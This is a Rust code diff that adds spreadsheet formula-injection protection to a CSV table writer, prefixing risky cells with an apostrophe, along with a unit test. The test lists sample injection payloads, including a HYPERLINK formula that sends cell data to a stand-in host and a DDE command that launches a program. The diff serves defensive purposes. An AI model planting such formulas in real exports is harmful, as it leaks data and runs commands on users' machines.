@@ -7,9 +7,13 @@ use std::fs::File;
 use std::io::Write;
 use std::path::{Path, PathBuf};
 
+use std::borrow::Cow;
+use std::sync::Arc;
+
 use chrono::NaiveDate;
-use datafusion::arrow::array::RecordBatch;
-use datafusion::arrow::datatypes::SchemaRef;
+use datafusion::arrow::array::{ArrayRef, RecordBatch, StringArray};
+use datafusion::arrow::compute::cast;
+use datafusion::arrow::datatypes::{DataType, Field, Schema, SchemaRef};
 use datafusion::parquet::arrow::ArrowWriter;
 use datafusion::parquet::basic::Compression;
 use datafusion::parquet::file::properties::WriterProperties;
@@ -47,13 +51,81 @@ pub fn file_name(table: &str, format: FileFormat) -> String {
     format!("{table}.{}", format.extension())
 }
 
+/// How text cells are written to CSV.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CsvCells {
+    /// A cell a spreadsheet would run as a formula gets a leading `'`.
+    Neutralised,
+    /// Every cell as computed.
+    AsComputed,
+}
+
+/// What a spreadsheet may take as the start of a formula (OWASP's list).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell made inert for spreadsheets: `=1+1` becomes `'=1+1`.
+fn neutralised(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// The batches with every text column's cells [`neutralised`]; text
+/// columns become `Utf8`.
+fn neutralise(
+    schema: &SchemaRef,
+    batches: &[RecordBatch],
+) -> Result<(SchemaRef, Vec<RecordBatch>), String> {
+    let is_text =
+        |t: &DataType| matches!(t, DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View);
+    let fields: Vec<Field> = schema
+        .fields()
+        .iter()
+        .map(|f| match is_text(f.data_type()) {
+            true => Field::new(f.name(), DataType::Utf8, f.is_nullable()),
+            false => f.as_ref().clone(),
+        })
+        .collect();
+    let output = Arc::new(Schema::new(fields));
+    let batches = batches
+        .iter()
+        .map(|batch| {
+            let columns = batch
+                .columns()
+                .iter()
+                .map(|column| {
+                    if !is_text(column.data_type()) {
+                        return Ok(Arc::clone(column));
+                    }
+                    let text = cast(column, &DataType::Utf8).map_err(|e| e.to_string())?;
+                    let text = text
+                        .as_any()
+                        .downcast_ref::<StringArray>()
+                        .ok_or("a text column is not text")?;
+                    let cells: StringArray = text.iter().map(|v| v.map(neutralised)).collect();
+                    Ok(Arc::new(cells) as ArrayRef)
+                })
+                .collect::<Result<Vec<_>, String>>()?;
+            RecordBatch::try_new(Arc::clone(&output), columns).map_err(|e| e.to_string())
+        })
+        .collect::<Result<Vec<_>, String>>()?;
+    Ok((output, batches))
+}
+
 /// Write batches to `path` in `format`. Deterministic: same batches, same bytes.
 pub fn write_table(
     path: &Path,
     schema: &SchemaRef,
     batches: &[RecordBatch],
     format: FileFormat,
+    cells: CsvCells,
 ) -> Result<(), String> {
+    if format == FileFormat::Csv && cells == CsvCells::Neutralised {
+        let (schema, batches) = neutralise(schema, batches)?;
+        return write_table(path, &schema, &batches, format, CsvCells::AsComputed);
+    }
     let file = File::create(path).map_err(|e| e.to_string())?;
     match format {
         FileFormat::Parquet | FileFormat::Arrow => {
@@ -233,6 +305,28 @@ impl Drop for Staged {
     fn drop(&mut self) {
         if !self.committed {
             let _ = std::fs::remove_dir_all(&self.dir);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_formula_start_is_neutralised_and_nothing_else() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+1)",
+            "-2+3",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            assert_eq!(neutralised(cell), format!("'{cell}"), "{cell:?}");
+        }
+        for cell in ["Acme", "", "a=b", " =1", "'=1"] {
+            assert_eq!(neutralised(cell), cell, "{cell:?}");
         }
     }
 }
